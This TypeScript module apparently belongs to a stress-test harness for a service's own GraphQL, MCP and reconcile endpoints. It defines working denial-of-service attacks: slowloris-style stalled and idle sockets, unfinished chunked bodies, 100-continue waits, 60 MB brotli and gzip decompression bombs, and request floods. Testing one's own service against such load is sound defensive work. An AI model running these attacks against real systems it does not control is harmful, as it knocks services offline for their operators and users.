import { brotliCompressSync, gzipSync } from "node:zlib";
import { flood, sockets, two, type Sent } from "./flood.ts";
import type { Attack } from "./kinds.ts";

const json = "content-type: application/json";
const posted = (body: string, ...headers: string[]) =>
  `POST /graphql HTTP/1.1\r\nhost: x\r\n${[json, ...headers].join("\r\n")}\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
const page = JSON.stringify({
  query: "{ claims(first: 50) { nodes { id text statement { quote { exact prefix suffix } } source { title attribution } } } }",
});
const many = "{ __typename }".padEnd(60_000_000, " ");
const packed = { br: brotliCompressSync(JSON.stringify({ query: many })), gzip: gzipSync(JSON.stringify({ query: many })) };
const misspelt = ["Vladimr Putni", "Repulic of Chna", "Zabaykalk Manzoli", "Federal Custms Servce", "Uzbekistn Statistcs Agncy"];
const batch = (n: number): Sent => {
  const queries = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`q${i}`, { query: `${misspelt[i % 5]!} ${n * 1_000 + i}` }]));
  const headers = { "content-type": "application/x-www-form-urlencoded" };
  return { path: "/reconcile", headers, body: new URLSearchParams({ queries: JSON.stringify(queries) }).toString() };
};
const sentence = "trade between Russia and China grew by 12 percent to $3.4 billion and exports of coal to $5 billion and ".repeat(550);
const checkText = "query ($text: String!) { checkText(text: $text) { claims { words } } }";
const tool = (n: number): Sent => ({
  path: "/mcp",
  headers: { accept: "application/json, text/event-stream" },
  body: JSON.stringify({
    jsonrpc: "2.0",
    id: n,
    method: "tools/call",
    params: { name: "claims", arguments: { text: `trade ${n}`, first: 50 } },
  }),
});

/** The same through other endpoints, and other ways to hold shared resources. */
export const further: Attack[] = [
  {
    id: "pipelined",
    what: "20 sockets that pipeline 400 requests each and read nothing",
    run: (target) => sockets({ ...target, connections: 20, from: two, takes: false }, posted(page).repeat(400)),
  },
  {
    id: "half-chunks",
    what: "310 chunked requests without the last chunk",
    run: (target) =>
      sockets({ ...target, connections: 310 }, `POST /mcp HTTP/1.1\r\nhost: x\r\n${json}\r\ntransfer-encoding: chunked\r\n\r\n5\r\n{"a":`),
  },
  {
    id: "expecting",
    what: "310 requests that wait for 100 Continue and then send nothing",
    run: (target) =>
      sockets(
        { ...target, connections: 310 },
        `POST /reconcile HTTP/1.1\r\nhost: x\r\n${json}\r\ncontent-length: 90\r\nexpect: 100-continue\r\n\r\n`,
      ),
  },
  {
    id: "idle",
    what: "2,000 sockets that send one cheap request and stay open",
    run: (target) => sockets({ ...target, connections: 2_000, from: two }, "GET /livez HTTP/1.1\r\nhost: x\r\n\r\n"),
  },
  {
    id: "packed",
    what: "bodies of 60 MB compressed with br and gzip, 12 at once",
    run: (target) =>
      flood({ ...target, connections: 12 }, (n) => {
        const coding = (["br", "gzip"] as const)[n % 2]!;
        return { path: ["/graphql", "/mcp"][n % 2]!, headers: { "content-encoding": coding }, body: packed[coding] };
      }),
  },
  {
    id: "reconciled",
    what: "batches of 1,000 unknown names, 4 at once",
    run: (target) => flood({ ...target, connections: 4, from: two }, batch),
  },
  { id: "assistants", what: "tool calls, 60 at once", run: (target) => flood({ ...target, connections: 60, from: two }, tool) },
  {
    id: "read",
    what: "checks of texts of one sentence, 8 at once",
    run: (target) =>
      flood({ ...target, connections: 8, from: two }, (n) => ({
        body: JSON.stringify({ query: checkText, variables: { text: `${n} ${sentence}` } }),
      })),
  },
];
